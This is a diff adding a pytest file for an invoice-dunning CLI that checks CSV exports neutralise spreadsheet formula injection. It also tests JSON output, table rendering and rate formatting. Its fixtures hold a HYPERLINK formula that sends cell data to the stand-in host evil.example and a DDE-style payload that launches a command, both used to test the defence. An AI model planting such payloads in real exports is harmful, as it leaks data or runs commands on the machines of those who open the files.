@@ -1,0 +1,172 @@
+"""Listings tell the truth and hurt nobody: a ledger whose text came from outside (customer
+files, payer names written by whoever sends money) listed as CSV, JSON and tables.
+
+Every listing that offers CSV is run here on the same hostile ledger; a listing added later
+without a place in `LISTINGS` fails `test_every_csv_listing_is_checked`.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+from pathlib import Path
+from typing import Any
+
+import pytest
+import typer
+from rich.console import Console
+from tests.conftest import write
+
+from relance.bootstrap import Store
+from relance.interfaces.cli import output
+from relance.interfaces.cli.machine import csv_cell, neutralised
+from relance.interfaces.cli.main import app, run
+from relance.interfaces.cli.tables import show_table
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+PAYER = "@SUM(1+1)*cmd|' /C calc'!A0"
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+NUMBER = re.compile(r"-?\d+(\.\d+)?")
+
+# Each listing with --csv, with the arguments that make it list the hostile ledger.
+LISTINGS: dict[str, list[str]] = {
+    "customers": ["customers"],
+    "invoices": ["invoices", "--as-of", "2026-03-15"],
+    "aging": ["aging", "--as-of", "2026-03-15"],
+    "run": ["run", "--date", "2026-04-30", "--dry-run"],
+    "queue": ["queue", "--all"],
+    "history": ["history", "+33CUST"],
+    "unmatched": ["unmatched"],
+}
+
+
+@pytest.fixture
+def hostile(store: Store, tmp_path: Path) -> str:
+    """A ledger whose customer, invoice and payer texts are spreadsheet formulas."""
+    db = store.engine.url.render_as_string(hide_password=False)
+    assert run(["init", "--db", db, "--name", "Plomberie Martin", "--iban",
+                "FR76 3000 6000 0112 3456 7890 189", "--email", "compta@martin.fr"]) == 0  # fmt: skip
+    customers = write(
+        tmp_path / "c.csv",
+        "ref;name;kind;country;email\n"
+        f'+33CUST;"{FORMULA.replace(chr(34), chr(34) * 2)}";business;FR;a@example.fr\n'
+        "-MINUS;\tTabbed SARL;business;FR;b@example.fr\n",
+    )
+    invoices = write(
+        tmp_path / "i.csv",
+        "numero;client;date;echeance;montant\n"
+        "-F1;+33CUST;01/01/2026;31/01/2026;1 000,00\n"
+        "@F2;-MINUS;01/03/2026;31/03/2026;200,00\n",
+    )
+    statement = write(
+        tmp_path / "releve.csv",
+        "Date;Libellé;Montant;Tiers;IBAN tiers;Référence structurée;Id\n"
+        f"05/03/2026;=1+1;12,34;{PAYER};;;TX-1\n",
+    )
+    assert run(["import", "customers", str(customers), "--db", db]) == 0
+    assert run(["import", "invoices", str(invoices), "--db", db]) == 0
+    assert run(["import", "bank", str(statement), "--db", db, "--as-of", "2026-03-05"]) == 0
+    assert run(["run", "--db", db, "--date", "2026-03-15"]) == 0
+    assert run(["hold", "+33CUST", "--reason", "=1+1", "--db", db, "--date", "2026-03-16"]) == 0
+    return db
+
+
+def csv_commands(group: Any, prefix: tuple[str, ...] = ()) -> set[str]:
+    """Every command of the CLI that can print CSV (a --csv flag or a --format option)."""
+    found = set()
+    for name, command in group.commands.items():
+        if hasattr(command, "commands"):  # a group of commands, such as `import`
+            found |= csv_commands(command, (*prefix, name))
+        elif any({"--csv", "--format"} & set(p.opts) for p in command.params):
+            found.add(" ".join((*prefix, name)))
+    return found
+
+
+def test_every_csv_listing_is_checked() -> None:
+    assert csv_commands(typer.main.get_group(app)) == set(LISTINGS)
+
+
+@pytest.mark.parametrize("listing", sorted(LISTINGS))
+def test_no_csv_cell_is_a_formula_and_the_ledger_keeps_its_text(
+    hostile: str, listing: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    args = [*LISTINGS[listing], "--db", hostile]
+    capsys.readouterr()
+    assert run([*args, "--format", "csv"]) == 0
+    table = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    cells = [cell for row in table[1:] for cell in row]
+    assert len(table) > 1, f"{listing} listed nothing: the test would prove nothing"
+    dangerous = [c for c in cells if c.startswith(TRIGGERS) and not NUMBER.fullmatch(c)]
+    assert dangerous == []
+    assert any(c.startswith("'") for c in cells)  # the hostile text is there, neutralised
+    # JSON is for programs, not spreadsheets: the stored text comes out as it was.
+    assert run([*args, "--format", "json"]) == 0
+    text = capsys.readouterr().out
+    json.loads(text)
+    assert any(raw in text for raw in ("+33CUST", "-F1", "-MINUS", json.dumps(PAYER)[1:-1]))
+
+
+def test_numbers_stay_numbers_and_text_that_looks_like_one_is_neutralised() -> None:
+    from decimal import Decimal
+
+    assert [csv_cell(v) for v in (Decimal("-12.50"), -5, None, "-12.50", "=1+1")] == [
+        "-12.50", "-5", "", "'-12.50", "'=1+1",
+    ]  # fmt: skip
+    assert neutralised("\rcmd") == "'\rcmd" and neutralised("Dupont") == "Dupont"
+
+
+def test_days_overdue_agree_in_table_and_csv(
+    store: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Negative before the due date, blank once paid, the same number in both."""
+    db = store.engine.url.render_as_string(hide_password=False)
+    assert run(["init", "--db", db, "--name", "Plomberie Martin"]) == 0
+    write(tmp_path / "c.csv", "ref;name\nDUP;Dupont\n")
+    write(tmp_path / "i.csv", "numero;client;date;echeance;montant\n"
+          "LATE;DUP;01/01/2026;31/01/2026;100,00\nSOON;DUP;01/03/2026;25/03/2026;100,00\n"
+          "PAID;DUP;01/01/2026;15/01/2026;50,00\n")  # fmt: skip
+    write(tmp_path / "p.csv", "date;customer;amount;invoice\n10/01/2026;DUP;50,00;PAID\n")
+    for kind, name in (("customers", "c"), ("invoices", "i"), ("payments", "p")):
+        assert run(["import", kind, str(tmp_path / f"{name}.csv"), "--db", db]) == 0
+    capsys.readouterr()
+    assert run(["invoices", "--db", db, "--as-of", "2026-03-15", "--csv"]) == 0
+    rows = {
+        r["number"]: r["days_overdue"] for r in csv.DictReader(io.StringIO(capsys.readouterr().out))
+    }
+    assert rows == {"LATE": "43", "SOON": "-10", "PAID": ""}
+    assert run(["invoices", "--db", db, "--as-of", "2026-03-15"]) == 0
+    table = capsys.readouterr().out.splitlines()
+    shown = {line.split()[0]: line.split()[-1] for line in table if line.startswith(tuple(rows))}
+    assert shown == {"LATE": "43", "SOON": "-10", "PAID": "paid"}  # blank: the status is last
+
+
+def test_references_are_never_cut_in_a_table() -> None:
+    long_ref = "FAC-2026-000000123456789-AVOIR-COMPLEMENTAIRE"
+    for terminal in (True, False):
+        screen = Console(file=io.StringIO(), force_terminal=terminal, width=60)
+        show_table(screen, ["number", "customer", "open"], [[long_ref, "[/]", "1 234,56 €"]],
+                   title="Invoices", right=("open",))  # fmt: skip
+        text = screen.file.getvalue()  # type: ignore[attr-defined]
+        assert "…" not in text and "[/]" in text
+        assert any(long_ref in line for line in text.splitlines())  # whole, on one line
+
+
+def test_machine_output_never_goes_through_rich(
+    hostile: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    rich_side = io.StringIO()
+    monkeypatch.setattr(output.console, "_file", rich_side)  # what Rich would print, if any
+    capsys.readouterr()
+    assert run(["aging", "--db", hostile, "--as-of", "2026-03-15", "--json"]) == 0
+    report = json.loads(capsys.readouterr().out)
+    assert [c["customer"] for c in report["customers"]] == ["+33CUST", "-MINUS"]
+    assert rich_side.getvalue() == ""
+
+
+def test_rates_use_the_locale_decimal_mark() -> None:
+    from decimal import Decimal
+
+    assert output.rate_text(Decimal("12.15"), "fr") == "12,15\u00a0%"
+    assert output.rate_text(Decimal("12.15"), "en") == "12.15 %"
